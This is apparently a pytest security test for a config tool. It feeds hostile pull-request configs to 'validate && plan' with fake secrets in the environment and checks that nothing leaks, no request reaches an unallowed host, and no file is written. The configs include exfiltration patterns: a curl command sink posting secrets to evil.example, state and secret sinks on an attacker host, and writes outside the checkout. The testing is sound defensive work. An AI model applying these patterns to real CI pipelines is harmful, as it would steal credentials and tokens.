"""Issue 20: `validate && plan` on a hostile pull request's config, with a secret in every variable.

Each config below is what an attacker who can open a pull request might write. The pipeline
runs `ctconfig validate && ctconfig plan` as the shipped workflows do, through the installed
command, with a fake secret in every environment variable it has (CleverTap's admin passcode,
the state's DSN, a CI token, AWS keys) and allow-lists that admit only the operator's own
sandbox server. Whatever the config says: no request reaches a host the operator did not allow,
no secret appears in any output, and no file inside or outside the checkout changes.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest

from tests.conftest import ctconfig_executable
from tests.untrusted.recorder import Recorder, recording_server
from tests.untrusted.tree import changes, snapshot

SECRETS = {
    "CT_PROD_PASSCODE": "AMA-AUE-YWUL",
    "CT_STATE_DSN": "postgresql://ct:dsn-secret-91c2@db.internal/ct",
    "CTCONFIG_STATE_DSN": "postgresql://ct:dsn-secret-4b7e@db.internal/ct",
    "CI_JOB_TOKEN": "glcbt-token-secret-5d1f",
    "GITHUB_TOKEN": "ghs_token-secret-0a9b",
    "AWS_ACCESS_KEY_ID": "AKIAFAKESECRET0001",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-key-8c3d",
}
ACCOUNT = (
    "accounts:\n  prod:\n    id: W9R-486-4W5Z\n    credentials: {{passcode_env: {env}}}\n"
    "    account_passcodes:\n      {name}: {{expires_in: 90d}}\n"
)


def hostile_configs(evil: str, allowed: str, outside: Path) -> dict[str, str]:
    """name → config text; `evil` is a host the operator never allowed, `allowed` its own server."""
    prod = ACCOUNT.format(env="CT_PROD_PASSCODE", name="export")
    return {
        "provider elsewhere, DSN as passcode": (
            f"provider: {{kind: clevertap, base_url: '{evil}'}}\n"
            + ACCOUNT.format(env="CTCONFIG_STATE_DSN", name="export")
        ),
        "dashboard elsewhere, sink outside": (
            f"provider: {{kind: dashboard, base_url: '{evil}'}}\n"
            f"secrets: {{sink: file, path: '{outside / 'secrets'}'}}\n" + prod
        ),
        "state server elsewhere with the CI token": (
            f"state: {{backend: http, address: '{evil}/state', username_env: CT_USER, "
            "password_env: CI_JOB_TOKEN}\n"
            f"provider: {{kind: clevertap, base_url: '{allowed}'}}\n" + prod
        ),
        "s3 state elsewhere": f"state: {{backend: s3, bucket: ctstate, endpoint_url: '{evil}'}}\n" + prod,
        "aws sink elsewhere": (
            f"secrets: {{sink: aws-ssm, endpoint_url: '{evil}', region: eu-west-1}}\n"
            f"provider: {{kind: clevertap, base_url: '{allowed}'}}\n" + prod
        ),
        "files outside": (
            f"state: {{path: '{outside / 'state.json'}'}}\n"
            "provider: {kind: sandbox, path: ../outside/sandbox.db}\n"
            "secrets: {sink: env-file, path: ../outside/secrets.env}\n" + prod
        ),
        "secret into a value": prod.replace("W9R-486-4W5Z", "'${CT_PROD_PASSCODE}'"),
        "command sink": "secrets: {sink: command, command: [curl, -d, '@-', 'https://evil.example']}\n"
        + prod,
        "allowed provider, evil state": (
            f"state: {{backend: http, address: '{evil}/state'}}\n"
            f"provider: {{kind: clevertap, base_url: '{allowed}'}}\n" + prod
        ),
    }


@pytest.fixture
def hosts() -> Iterator[tuple[Recorder, Recorder]]:
    with ExitStack() as stack:
        yield stack.enter_context(recording_server()), stack.enter_context(recording_server())


def pipeline(tree: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """`ctconfig validate && ctconfig plan`, as the shipped pull-request workflows run them."""
    command = " ".join(ctconfig_executable())
    return subprocess.run(
        ["bash", "-c", f"{command} validate && {command} plan --detailed-exitcode"],
        cwd=tree,
        env=env,
        text=True,
        capture_output=True,
        timeout=120,
    )


@pytest.mark.process
def test_validate_and_plan_on_hostile_configs_send_nothing_and_write_nothing(
    tmp_path: Path, hosts: tuple[Recorder, Recorder]
) -> None:
    evil, allowed = hosts
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / ".git-credentials").write_text("https://ci:git-credential-secret-77aa@git.example\n")
    (outside / "secrets" / "prod").mkdir(parents=True)
    (outside / "secrets" / "prod" / "export").write_text("ZZZ-ZZZ-ZZZZ\n")
    tree = tmp_path / "checkout"
    tree.mkdir()
    env = {
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
        "HOME": str(tmp_path / "home"),
        "NO_COLOR": "1",
        **SECRETS,
        "CT_USER": "ci",
        "CTCONFIG_ALLOWED_ENDPOINTS": allowed.url,  # the operator allows its own sandbox server only
        "CTCONFIG_ALLOWED_ENV": "",
        "CTCONFIG_ALLOWED_PATHS": "",
        "CTCONFIG_ALLOWED_COMMANDS": "",
    }
    leaked = [*SECRETS.values(), "git-credential-secret-77aa", "ZZZ-ZZZ-ZZZZ"]
    for name, text in hostile_configs(evil.url, allowed.url, outside).items():
        (tree / "ctconfig.yaml").write_text("version: 1\n" + text)
        before = snapshot(tmp_path)
        done = pipeline(tree, env)
        said = done.stdout + done.stderr
        assert done.returncode == 1, f"{name}: {said}"
        assert "Traceback" not in said, name
        assert not [s for s in leaked if s in said], f"{name} printed a secret: {said}"
        assert evil.requests == [], f"{name}: the host nobody allowed was asked {evil.requests}"
        assert changes(before, snapshot(tmp_path)) == [], name
    for _, _, headers in allowed.requests:  # the one host allowed heard only what it may
        values = " ".join(headers.values())
        assert "dsn-secret" not in values and "token-secret" not in values and "aws-secret" not in values
